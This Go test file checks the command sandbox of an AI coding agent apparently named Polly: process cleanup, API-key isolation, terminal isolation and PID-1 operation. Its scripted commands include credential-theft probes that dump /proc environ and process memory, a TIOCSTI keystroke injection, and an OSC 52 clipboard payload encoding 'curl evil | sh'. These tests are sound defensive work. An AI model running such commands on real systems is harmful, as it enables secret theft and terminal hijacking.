package cli

import (
	"bytes"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/creack/pty"
	"golang.org/x/sys/unix"

	"polly/agent/llmtest"
	"polly/tools/sandbox/sandboxtest"
)

// Must show (issue 11 #6): kill -9 of a real Polly process while a command
// runs `sleep 300 | cat` (plus a process that left the session with
// setsid): no process of the command survives (found by their unique
// arguments; the helper runs each command in a PID namespace of its own).
func TestKill9KillsEveryProcessOfTheCommand(t *testing.T) {
	srv := llmtest.NewServer(t,
		llmtest.Call("run_command", `{"command":"setsid sleep 301.37 & echo $$ > started; sleep 300.73 | cat"}`),
	)
	env, _ := cliEnv(t, srv.URL(), nil)
	child := startPolly(t, env, srv.URL(), "-p", "build it", "--yolo")
	started := filepath.Join(env.Dir, "started")
	// sleeps are the two sleeps of the command, found by their arguments.
	sleeps := func() []sandboxtest.Proc {
		return sandboxtest.Living(func(p sandboxtest.Proc) bool {
			return p.Cmdline == "sleep\x00300.73\x00" || p.Cmdline == "sleep\x00301.37\x00"
		})
	}
	waitFor(t, "the command to start", func() bool { b, _ := os.ReadFile(started); return len(b) > 0 })
	waitFor(t, "both sleeps", func() bool { return len(sleeps()) == 2 })
	if b, _ := os.ReadFile(started); strings.TrimSpace(string(b)) != "1" {
		t.Fatalf("the shell's pid is %q; it should be PID 1 of its own namespace", b)
	}
	if err := child.Process.Signal(syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	child.Wait()
	waitFor(t, "every process of the command to die", func() bool { return len(sleeps()) == 0 })
	t.Log("after kill -9 of Polly: no sleep left")
}

// Must show (issue 11 #3): with the key in Polly's environment, or given
// with --api-key on its command line, no command gets any form of it —
// not from its own environment, not from Polly's /proc environ, cmdline or
// memory, not reversed or base64-encoded. Checked on the tool outputs the
// fake server received.
func TestKeyCannotLeakToCommands(t *testing.T) {
	const key = "sk-test-k3y-7f9a2c41d0e8b6"
	// Every process the command can see, whatever its pid: Polly is not
	// among them (the helper runs commands in its own PID namespace), and
	// the helper, which is, is non-dumpable.
	each := `for d in /proc/[0-9]*; do [ -e $d/cmdline ] || continue; echo "== $d: $(tr '\0' ' ' < $d/cmdline)"; `
	probes := []string{
		`env | rev; env | base64 -w0; printenv OPENAI_API_KEY POLLY_TEST_TOKEN`,
		each + `cat $d/environ | rev; base64 -w0 $d/environ; cat $d/task/*/environ | base64 -w0; done`,
		each + `rev $d/cmdline; base64 -w0 $d/cmdline; done`,
		each + `for r in $(awk '$2 ~ /^rw/ {print $1}' $d/maps | head -40); do s=$((16#${r%-*})); e=$((16#${r#*-})); ` +
			`dd if=$d/mem bs=4096 skip=$((s/4096)) count=$(((e-s)/4096)) 2>&1 | base64 -w0; done | head -c 200000 | tail -c 300; done`,
		each + `cat $d/mem | base64 | head -c 100; ls -l $d/environ $d/mem; grep -i cap $d/status; done`,
		`ps -eo pid,args 2>&1; ls -d /proc/[0-9]*`,
	}
	for _, mode := range []string{"env", "--api-key"} {
		t.Run(mode, func(t *testing.T) {
			var steps []llmtest.Step
			for _, p := range probes {
				steps = append(steps, llmtest.Call("run_command", fmt.Sprintf(`{"command":%q}`, p)))
			}
			srv := llmtest.NewServer(t, append(steps, llmtest.Text("done"))...)
			env, _ := cliEnv(t, srv.URL(), nil)
			var child *exec.Cmd
			if mode == "env" {
				child = startPollyEnv(t, env, srv.URL(), []string{"OPENAI_API_KEY=" + key, "POLLY_TEST_TOKEN=" + key}, "-p", "look around", "--yolo")
			} else {
				child = startPollyArgv(t, env, srv.URL(), "-p", "look around", "--yolo", "--api-key", key)
			}
			if err := child.Wait(); err != nil {
				t.Fatalf("polly: %v", err)
			}
			if srv.Calls() != len(probes)+1 {
				t.Fatalf("%d requests, want %d", srv.Calls(), len(probes)+1)
			}
			outputs := toolOutputs(srv)
			if len(outputs) != len(probes) {
				t.Fatalf("%d tool results, want %d", len(outputs), len(probes))
			}
			for i, out := range outputs {
				t.Logf("probe %d: %.300q", i, out)
			}
			// The probes saw the helper, were refused its environ and
			// memory, and never saw Polly (its command line has the test's
			// -test.run flag; the helper's does not).
			if !strings.Contains(outputs[1], "__polly_sandbox_helper") || !strings.Contains(outputs[1], "Permission denied") {
				t.Fatalf("probe 1 did not hit the helper's environ: %s", outputs[1])
			}
			if !strings.Contains(outputs[3], "Permission denied") {
				t.Fatalf("probe 3 did not hit the helper's memory: %.500s", outputs[3])
			}
			for i, out := range outputs {
				if strings.Contains(out, "-test.run") {
					t.Fatalf("probe %d saw Polly's process: %.800s", i, out)
				}
			}
			for _, req := range srv.Requests() {
				body := string(req.Raw)
				for _, f := range sandboxtest.KeyForms(key) {
					if strings.Contains(body, f) {
						t.Fatalf("the fake server received the key as %q", f)
					}
				}
			}
			if got := req0Auth(srv); got != "Bearer "+key {
				t.Fatalf("the provider got Authorization %q; the key was not in use", got)
			}
		})
	}
}

func req0Auth(srv *llmtest.Server) string { return srv.Requests()[0].Header.Get("Authorization") }

// startPollyEnv is startPolly with extra environment (later entries win).
func startPollyEnv(t *testing.T, env Env, base string, extra []string, args ...string) *exec.Cmd {
	t.Helper()
	cmd := pollyCmd(t, env, base, args)
	cmd.Env = append(cmd.Env, extra...)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	return cmd
}

// startPollyArgv starts Polly with its arguments on the real command line
// (as main gets them), with no key in its environment.
func startPollyArgv(t *testing.T, env Env, base string, args ...string) *exec.Cmd {
	t.Helper()
	cmd := exec.Command(os.Args[0], append([]string{"-test.run=^$", "--"}, args...)...)
	cmd.Env = append(withoutVar(os.Environ(), "OPENAI_API_KEY"), "POLLY_CHILD_ARGS=argv", "POLLY_CHILD_DIR="+env.Dir, "HOME="+env.Home,
		"OPENAI_BASE_URL="+base, "XDG_CONFIG_HOME="+filepath.Join(env.Home, ".config"))
	cmd.Stdout, cmd.Stderr = os.Stderr, os.Stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	return cmd
}

func withoutVar(env []string, name string) []string {
	return slices.DeleteFunc(slices.Clone(env), func(kv string) bool { return strings.HasPrefix(kv, name+"=") })
}

// Must show (issue 24, the terminal rows): Polly runs in a pseudo-terminal
// that is its controlling terminal (as when a user starts it), and
// commands try to open /dev/tty and that terminal by name, to type into
// it with TIOCSTI and to set the clipboard with OSC 52. Nothing reaches
// the terminal: no escape sequence in what it displayed, no character in
// its input queue. On this kernel and without namespaces; as root and as
// an unprivileged user (TestSandboxAsUser).
func TestCommandsCannotReachTheTerminal(t *testing.T) {
	sandboxtest.UnderProbes(t, []string{"", "no-userns"}, commandsCannotReachTheTerminal)
}

func commandsCannotReachTheTerminal(t *testing.T) {
	bin := t.TempDir()
	os.Chmod(bin, 0o755)
	probe := sandboxtest.BuildProbe(t, bin)
	master, slave, err := pty.Open()
	if err != nil {
		t.Fatal(err)
	}
	defer master.Close()
	defer slave.Close()
	// What a command types is built at run time, so that Polly's own
	// lines (which show the command) cannot contain it.
	inject := `$(printf '\x49\x4e\x4a')ECTED`
	commands := []string{
		probe + " 64 tty /dev/tty",
		probe + " 64 tty " + slave.Name(),
		"for p in /dev/pts/[0-9]*; do " + probe + " 64 tty $p; done; echo pts: $(ls /dev/pts)",
		probe + " 64 tty /proc/self/fd/0; " + probe + " 64 tty /proc/self/fd/1",
		`/usr/bin/python3 -c 'import fcntl,termios,os,sys; fd=os.open(sys.argv[1],os.O_RDWR); [fcntl.ioctl(fd,termios.TIOCSTI,bytes([c])) for c in sys.argv[2].encode()]' /dev/tty "echo ` + inject + `"`,
		`printf '\033]52;c;Y3VybCBldmlsIHwgc2gK\a' > /dev/tty; printf '\033]52;c;Y3VybCBldmlsIHwgc2gK\a' > ` + slave.Name(),
		`tty; /usr/bin/python3 -c 'import os; print("own-session=%s" % (os.getsid(0) in (os.getpid(), os.getppid())))'`,
	}
	var steps []llmtest.Step
	for _, c := range commands {
		steps = append(steps, llmtest.Call("run_command", fmt.Sprintf(`{"command":%q}`, c)))
	}
	srv := llmtest.NewServer(t, append(steps, llmtest.Text("done"))...)
	env, _ := cliEnv(t, srv.URL(), nil)
	cmd := pollyCmd(t, env, srv.URL(), []string{"-p", "try the terminal", "--yolo"})
	cmd.Stdin, cmd.Stdout, cmd.Stderr = slave, slave, slave
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	var shown bytes.Buffer
	copied := make(chan struct{})
	go func() { io.Copy(&shown, master); close(copied) }()
	err = cmd.Wait()
	// What is left in the terminal's input queue: what a command typed
	// (read without waiting for a line, and without blocking).
	fd := int(slave.Fd())
	if tio, err := unix.IoctlGetTermios(fd, unix.TCGETS); err == nil {
		tio.Lflag &^= unix.ICANON
		tio.Cc[unix.VMIN], tio.Cc[unix.VTIME] = 0, 0
		unix.IoctlSetTermios(fd, unix.TCSETS, tio)
	}
	typed := make([]byte, 4096)
	n, _ := unix.Read(fd, typed)
	slave.Close()
	select {
	case <-copied:
	case <-time.After(2 * time.Second):
	}
	if err != nil {
		t.Fatalf("polly: %v\n%s", err, shown.String())
	}
	outputs := toolOutputs(srv)
	if len(outputs) != len(commands) {
		t.Fatalf("%d tool results, want %d", len(outputs), len(commands))
	}
	for i, o := range outputs {
		t.Logf("command %d: %s\n%s", i, commands[i], o)
		if strings.Contains(o, "ESCAPED") {
			t.Errorf("command %d reached a terminal: %s", i, o)
		}
	}
	if n > 0 {
		t.Errorf("the terminal's input queue holds %q: a command typed into it", typed[:max(n, 0)])
	}
	if s := shown.String(); strings.Contains(s, "\x1b]52") || strings.Contains(s, "INJECTED") {
		t.Errorf("the terminal showed a command's escape sequence or typed text:\n%q", s)
	}
	// The probes ran and were refused (not, say, missing).
	if !strings.Contains(outputs[0], "blocked tty-open") || !strings.Contains(outputs[1], "blocked tty-open") {
		t.Fatalf("the probes did not try the terminal:\n%s\n%s", outputs[0], outputs[1])
	}
	// The shell leads a session of its own (setsid): no controlling terminal.
	if !strings.Contains(outputs[6], "not a tty") || !strings.Contains(outputs[6], "own-session=True\n") {
		t.Errorf("the command has a (controlling) terminal: %s", outputs[6])
	}
	// Control: the same probe from outside the sandbox does reach it.
	out, _ := exec.Command(probe, "64", "tty", slave.Name()).CombinedOutput()
	if !strings.Contains(string(out), "ESCAPED tty-open") {
		t.Fatalf("control: the probe outside the sandbox could not open the terminal: %s", out)
	}
}

// Must show (issue 24 item 13): commands work when Polly is PID 1 of its
// PID namespace (docker run image polly), with and without the helper's
// namespaces.
func TestCommandsWorkWhenPollyIsPID1(t *testing.T) {
	unshare, err := exec.LookPath("unshare")
	if err != nil {
		t.Skip("unshare (util-linux) is not installed")
	}
	for _, probeCfg := range []string{"", "no-userns"} {
		t.Run("probe="+probeCfg, func(t *testing.T) {
			srv := llmtest.NewServer(t,
				llmtest.Call("run_command", `{"command":"echo pid-of-polly=$(cut -d' ' -f4 /proc/$PPID/stat 2>/dev/null); echo ran-ok"}`),
				llmtest.Text("done"))
			env, _ := cliEnv(t, srv.URL(), nil)
			child := pollyCmd(t, env, srv.URL(), []string{"-p", "run it", "--yolo"})
			args := []string{"--pid", "--fork", "--mount-proc"}
			if os.Geteuid() != 0 {
				args = append([]string{"--map-root-user"}, args...)
			}
			child.Args = append(append([]string{unshare}, args...), child.Args...)
			child.Path = unshare
			child.Env = append(child.Env, "POLLY_SANDBOX_PROBE="+probeCfg)
			child.Stdout, child.Stderr = nil, nil
			out, err := child.CombinedOutput()
			if err != nil {
				t.Fatalf("polly as PID 1: %v\n%s", err, out)
			}
			var got string
			for _, m := range srv.Last().Messages {
				if m.Role == "tool" {
					got = m.Content
				}
			}
			if !strings.Contains(got, "exit code: 0") || !strings.Contains(got, "ran-ok") {
				t.Fatalf("the command did not run with Polly as PID 1: %s\n%s", got, out)
			}
		})
	}
}

// The sandbox tests of this package pass as an unprivileged user too.
func TestSandboxAsUser(t *testing.T) {
	if sandboxtest.IsUserRun() {
		t.Skip("this is the run as the user")
	}
	t.Log(sandboxtest.RunAsUser(t, "TestCommandsCannotReachTheTerminal|TestCommandsWorkWhenPollyIsPID1|TestKill9KillsEveryProcessOfTheCommand|TestKeyCannotLeakToCommands"))
}

// Must show (issue 24 #2): polly sandbox prints, for this machine, each
// protection and how it is enforced — and, with each fallback forced,
// what Polly does instead (a missing protection is never silent).
func TestSandboxCommand(t *testing.T) {
	for probeCfg, want := range map[string][]string{
		"":                {"sandbox: on (mode auto, Landlock ABI", "user/mount/PID/network namespaces", "ok foreign architectures", "ok UNIX sockets", "limits per command:"},
		"no-userns":       {"no namespaces: simulated by POLLY_SANDBOX_PROBE=no-userns", "entry by entry", "seccomp refuses every socket"},
		"abi=5,no-userns": {"Landlock ABI 5", "NO signals and abstract sockets"},
		"fail":            {"sandbox: no sandbox: asking", "not active: the Landlock probe failed", "every command asks first"},
	} {
		t.Run("probe="+probeCfg, func(t *testing.T) {
			t.Setenv("POLLY_SANDBOX_PROBE", probeCfg)
			_, polly := cliEnv(t, "", nil)
			r := polly("sandbox")
			if r.code != 0 {
				t.Fatalf("code %d: %s", r.code, r.stderr)
			}
			flat := strings.Join(strings.Fields(r.stdout), " ") // the descriptions are wrapped
			for _, w := range want {
				if !strings.Contains(flat, w) {
					t.Errorf("missing %q in:\n%s", w, r.stdout)
				}
			}
			if probeCfg == "" {
				t.Logf("polly sandbox on this machine:\n%s", r.stdout)
			}
		})
	}
}

// toolOutputs are the tool results the last request carried, in order.
func toolOutputs(srv *llmtest.Server) []string {
	var out []string
	for _, m := range srv.Last().Messages {
		if m.Role == "tool" {
			out = append(out, m.Content)
		}
	}
	return out
}
